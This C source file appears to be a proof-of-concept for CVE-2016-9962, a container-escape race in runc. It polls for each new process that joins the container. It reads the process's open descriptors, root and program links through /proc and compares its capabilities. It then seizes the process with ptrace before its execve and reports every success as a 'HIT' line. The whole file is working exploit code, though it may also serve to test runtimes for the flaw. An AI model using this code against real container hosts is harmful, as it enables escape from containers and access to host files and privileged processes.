/* Attacks a process that joins its container, between its first instruction and its execve
 * (CVE-2016-9962): reads its descriptors, its root and its program, and traces it.
 *
 * Every process of this pid namespace that comes after this one is attacked, for ever. What works is a line
 * "HIT pid what"; every process that came is a line "seen pid". The joining process is told from
 * the command it becomes by what it has and the command has not: more than three descriptors, a root
 * or a program that are not of this container, capabilities beyond its own.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static struct stat root, command;
/* To who may trace everybody it is no news what others have; what counts is a right or a file of the host. */
static int may_trace;
static unsigned long long bounding;

static int is(const char *path, const struct stat *expected) {
	struct stat found;
	if (stat(path, &found)) return -1;
	return found.st_dev == expected->st_dev && found.st_ino == expected->st_ino;
}

/* What /proc tells of a process of this container that is not yet its command. */
static int look(int pid) {
	char path[64], link[256];
	int hits = 0;
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	if (!may_trace && is(path, &command) == 0) hits++, printf("HIT %d its program could be opened\n", pid);
	snprintf(path, sizeof path, "/proc/%d/root", pid);
	if (is(path, &root) == 0) hits++, printf("HIT %d its root could be entered\n", pid);
	for (int fd = 3; fd < 16; fd++) {
		snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
		ssize_t length = readlink(path, link, sizeof link - 1);
		if (length > 0) link[length] = 0;
		/* Where it reports. */
		if (may_trace && length > 0 && (!strncmp(link, "socket:", 7) || !strncmp(link, "pipe:", 5))) continue;
		if (length > 0) hits++, printf("HIT %d its descriptor %d could be read: %.*s\n", pid, fd, (int)length, link);
	}
	return hits;
}

/* Everybody may read which capabilities a process has. */
static int exceeds(int pid) {
	char path[64], text[4096];
	snprintf(path, sizeof path, "/proc/%d/status", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t length = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
	close(fd);
	if (length < 0) return 0;
	text[length] = 0;
	char *effective = strstr(text, "\nCapEff:");
	if (!bounding) {
		char *bound = strstr(text, "\nCapBnd:");
		bounding = bound ? strtoull(bound + 8, NULL, 16) : 0;
		return 0;
	}
	return effective && (strtoull(effective + 8, NULL, 16) & ~bounding) != 0;
}

/* Stops it for a moment: where that works before its execve, its memory and registers are the tracer's. */
static int trace(int pid) {
	int status, hits = 0;
	char path[64];
	struct stat program;
	int more = exceeds(pid);
	if (ptrace(PTRACE_SEIZE, pid, 0, 0)) return 0;
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
		snprintf(path, sizeof path, "/proc/%d/exe", pid);
		if (more && exceeds(pid)) hits++, printf("HIT %d was traced with capabilities beyond ours\n", pid);
		else if (!may_trace && stat(path, &program) == 0 && is(path, &command) == 0) hits++, printf("HIT %d was traced\n", pid);
	}
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return hits;
}

int main(int argc, char **argv) {
	(void)argv;
	may_trace = argc > 1;
	setvbuf(stdout, NULL, _IOLBF, 0);
	stat("/", &root);
	stat("/bin/busybox", &command);
	exceeds(getpid());
	puts("ready");
	for (int pid = getpid() + 1;;) {
		int came = 0;
		/* The next one, or a later one: it may have been too short to be seen. */
		for (int next = pid; next < pid + 16 && !came; next++)
			if (kill(next, 0) == 0) came = next;
		if (!came) {
			sched_yield();
			continue;
		}
		printf("seen %d\n", came);
		while (kill(came, 0) == 0) {
			if (look(came) | trace(came)) break;
		}
		pid = came + 1;
	}
}
